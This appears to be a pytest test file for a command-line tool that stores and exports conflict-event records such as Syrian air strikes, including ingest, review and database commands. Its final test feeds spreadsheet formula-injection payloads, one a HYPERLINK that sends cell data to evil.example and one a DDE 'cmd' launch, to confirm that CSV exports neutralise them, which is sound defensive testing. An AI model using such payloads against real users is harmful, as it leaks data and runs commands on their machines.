"""The store commands end to end: ingest, export, events, show, edit, delete, merge, split, db."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from ahdath.cli.main import main
from ahdath.export import ACLED_COLUMNS

STRIKES = Path(__file__).resolve().parents[1] / "store" / "data" / "strikes.jsonl"


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.delenv("AHDATH_DB", raising=False)
    url = f"sqlite:///{tmp_path}/events.sqlite"
    assert main(["ingest", "-q", str(STRIKES), "--db", url]) == 0
    return url


def _csv(out: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out)))


def test_cli_store_ingest_summary_and_idempotence(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    url = f"sqlite:///{tmp_path}/x.sqlite"
    assert main(["ingest", str(STRIKES), "--db", url]) == 0
    err = capsys.readouterr().err
    assert "reports: 4 new, 0 unchanged, 0 failed" in err
    assert main(["ingest", str(STRIKES), "--db", url]) == 0
    assert "reports: 0 new, 4 unchanged, 0 failed; events: 0 new, 0 merged" in capsys.readouterr().err


def test_cli_store_ingest_bad_input_named_and_rest_stored(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    bad = tmp_path / "empty.txt"
    bad.write_bytes(b"")
    url = f"sqlite:///{tmp_path}/x.sqlite"
    assert main(["ingest", str(bad), str(STRIKES), "--db", url]) == 1
    err = capsys.readouterr().err
    assert f"ahdath: {bad}: [E101]" in err and "Traceback" not in err
    assert "reports: 4 new, 0 unchanged, 1 failed" in err


def test_cli_store_same_strike_two_outlets_one_row(db: str, capsys: pytest.CaptureFixture) -> None:
    capsys.readouterr()
    assert main(["export", "--db", db]) == 0
    rows = _csv(capsys.readouterr().out)
    assert list(rows[0]) == list(ACLED_COLUMNS)
    strikes = [r for r in rows if r["sub_event_type"] == "Air/drone strike"]
    by_town = {r["location"]: r for r in strikes}
    assert set(by_town) == {"Maarrat An Nu'man", "Saraqab"}  # same day, different towns: apart
    assert by_town["Maarrat An Nu'man"]["source"] == "Outlet A; Outlet B"
    assert all(r["event_id_cnty"].startswith("SYR") and r["timestamp"].isdigit() for r in rows)


@pytest.mark.parametrize("fmt", ["jsonl", "geojson", "parquet"])
def test_cli_store_export_formats(db: str, fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / f"events.{fmt}"
    assert main(["export", "--db", db, "-o", str(out)]) == 0
    if fmt == "jsonl":
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert {"event_id", "source", "timestamp", "n_reports"} <= set(rows[0])
    elif fmt == "geojson":
        doc = json.loads(out.read_text(encoding="utf-8"))
        assert doc["type"] == "FeatureCollection" and doc["features"][0]["geometry"]["type"] == "Point"
    else:
        table = pq.read_table(out)
        assert table.num_rows >= 3 and "fatalities" in table.column_names


def test_cli_store_export_filters(db: str, capsys: pytest.CaptureFixture) -> None:
    capsys.readouterr()
    assert main(["export", "--db", db, "--admin1", "Idleb", "--event-type", "Air/drone strike",
                 "--since", "2024-03-12", "--until", "2024-03-12", "--actor", "russia"]) == 0
    rows = _csv(capsys.readouterr().out)
    assert rows and all(r["admin1"] == "Idleb" and r["event_date"] == "2024-03-12" for r in rows)
    assert main(["export", "--db", db, "--country", "IRQ"]) == 0
    assert _csv(capsys.readouterr().out) == []


def test_cli_store_parquet_needs_a_file(db: str, capsys: pytest.CaptureFixture) -> None:
    assert main(["export", "--db", db, "-f", "parquet"]) == 2
    assert "give -o FILE.parquet" in capsys.readouterr().err


def test_cli_store_review_cycle(db: str, capsys: pytest.CaptureFixture) -> None:
    capsys.readouterr()
    assert main(["events", "--db", db, "-n", "0"]) == 0
    listing = capsys.readouterr().out
    ids = [line.split()[0] for line in listing.splitlines()[2:-1]]
    assert len(ids) >= 3
    first, second, third = ids[:3]
    assert main(["edit", first, "fatalities=2", "--note", "checked", "--db", db, "--user", "analyst"]) == 0
    assert main(["merge", first, second, "--reason", "same incident", "--db", db, "--user", "analyst"]) == 0
    assert main(["delete", third, "--reason", "not political violence", "--db", db]) == 0
    capsys.readouterr()
    assert main(["show", first, "--db", db]) == 0
    shown = capsys.readouterr().out
    assert "(set by hand)" in shown and "edit" in shown and "by analyst" in shown and "same incident" in shown
    assert main(["show", second, "--json", "--db", db]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["event"] is None and doc["tombstone"]["merged_into"] == first
    assert main(["export", "--deleted", "--db", db]) == 0
    deleted = _csv(capsys.readouterr().out)
    assert {(r["event_id_cnty"], r["reason"]) for r in deleted} == {(second, "merged"), (third, "deleted")}
    assert main(["edit", third, "fatalities=1", "--db", db]) == 1
    assert "[E603]" in capsys.readouterr().err
    # the merge undone by hand: the second event's report moves out again, under a new id
    assert main(["show", first, "--json", "--db", db]) == 0
    moved = json.loads(capsys.readouterr().out)["reports"][-1]["article_id"]
    assert main(["split", first, moved, "--reason", "a second strike", "--db", db, "--user", "analyst"]) == 0
    out = capsys.readouterr()
    new = out.out.strip()
    assert new.startswith("SYR") and new not in (first, second, third) and f"moved from {first} to" in out.err
    assert main(["show", new, "--json", "--db", db]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert [r["article_id"] for r in doc["reports"]] == [moved]
    assert main(["show", first, "--db", db]) == 0
    assert f"moved to {new}: a second strike" in capsys.readouterr().out


@pytest.mark.parametrize("argv, message", [
    (["edit", "SYR1", "colour=red"], "not an event field"),
    (["edit", "SYR1", "fatalities=many"], "not a whole number"),
    (["edit", "SYR1"], "nothing to change"),
    (["merge", "SYR1", "SYR1"], "cannot be merged into itself"),
    (["split", "SYR1", "no-such-report"], "has no report 'no-such-report'"),
])
def test_cli_store_review_usage_errors(db: str, argv: list[str], message: str,
                                       capsys: pytest.CaptureFixture) -> None:
    assert main([*argv, "--db", db]) == 2
    assert message in capsys.readouterr().err


def test_cli_store_db_commands(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    url = f"sqlite:///{tmp_path}/new.sqlite"
    assert main(["db", "upgrade", "--db", url]) == 0
    assert "upgraded from empty" in capsys.readouterr().err
    assert main(["db", "upgrade", "--db", url]) == 0
    assert "newest schema" in capsys.readouterr().err
    assert main(["db", "status", "--db", url]) == 0
    from ahdath.store.migrate import head_revision

    assert head_revision() in capsys.readouterr().out


def test_cli_store_default_database_announced_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                   capsys: pytest.CaptureFixture) -> None:
    monkeypatch.delenv("AHDATH_DB", raising=False)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert main(["ingest", "-q", str(STRIKES)]) == 0
    err = capsys.readouterr().err
    assert "created database" in err and str(tmp_path / "data") in err
    assert main(["events"]) == 0
    assert "created database" not in capsys.readouterr().err


@pytest.mark.parametrize("url, code", [("postgresql://nobody@127.0.0.1:1/none", "[E601]"),
                                       ("mysql://host/db", "[E601]"), ("sqlite://", "[E601]")])
def test_cli_store_bad_database_one_line(url: str, code: str, capsys: pytest.CaptureFixture) -> None:
    assert main(["events", "--db", url]) == 1
    err = capsys.readouterr().err
    assert code in err and "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_cli_store_reextract_changes_nothing_with_the_same_engine(db: str, capsys: pytest.CaptureFixture) -> None:
    capsys.readouterr()
    assert main(["export", "--db", db, "-f", "jsonl"]) == 0
    before = [{k: v for k, v in json.loads(line).items() if k != "timestamp"}
              for line in capsys.readouterr().out.splitlines()]
    assert main(["reextract", "-q", "--db", db]) == 0
    assert "reports: 4 re-extracted, 0 failed" in capsys.readouterr().err
    assert main(["export", "--db", db, "-f", "jsonl"]) == 0
    after = [{k: v for k, v in json.loads(line).items() if k != "timestamp"}
             for line in capsys.readouterr().out.splitlines()]
    assert after == before


def test_cli_store_csv_exports_escape_formulas(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    feed = tmp_path / "feed.jsonl"
    lines = STRIKES.read_text(encoding="utf-8").splitlines()
    first = json.loads(lines[0])
    first["source"] = '=HYPERLINK("https://evil.example/?d="&A1,"المصدر")'
    feed.write_text("\n".join([json.dumps(first, ensure_ascii=False), *lines[1:]]) + "\n", encoding="utf-8")
    url = f"sqlite:///{tmp_path}/x.sqlite"
    assert main(["ingest", "-q", str(feed), "--db", url]) == 0
    capsys.readouterr()
    assert main(["export", "--db", url]) == 0
    rows = _csv(capsys.readouterr().out)
    sources = [r["source"] for r in rows if "HYPERLINK" in r["source"]]
    assert sources and all(s.startswith("'=HYPERLINK(") for s in sources)
    assert all(float(r["longitude"]) > 0 for r in rows if r["longitude"])
    edited = rows[0]["event_id_cnty"]
    assert main(["edit", edited, "notes=-1+cmd|' /C calc'!A0", "admin3=@SUM(1+1)", "--db", url]) == 0
    capsys.readouterr()
    assert main(["export", "--db", url]) == 0
    row = next(r for r in _csv(capsys.readouterr().out) if r["event_id_cnty"] == edited)
    assert (row["notes"], row["admin3"]) == ("'-1+cmd|' /C calc'!A0", "'@SUM(1+1)")
